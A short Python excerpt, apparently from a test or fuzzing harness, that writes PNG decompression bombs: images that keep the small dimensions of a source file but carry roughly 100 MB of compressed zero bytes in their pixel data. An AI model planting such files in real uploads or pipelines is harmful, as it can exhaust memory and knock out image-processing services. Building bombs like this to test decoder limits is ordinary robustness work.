# Small dimensions, but pixel data that inflates to 100 MB.
import zlib

squeezed = zlib.compressobj(9)
raw = b"".join(squeezed.compress(bytes(1 << 24)) for _ in range(6)) + squeezed.flush()
for name in names():
    width, height, _ = read(source(name))
    put(name, b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + chunk(b"IDAT", raw) + chunk(b"IEND", b""))
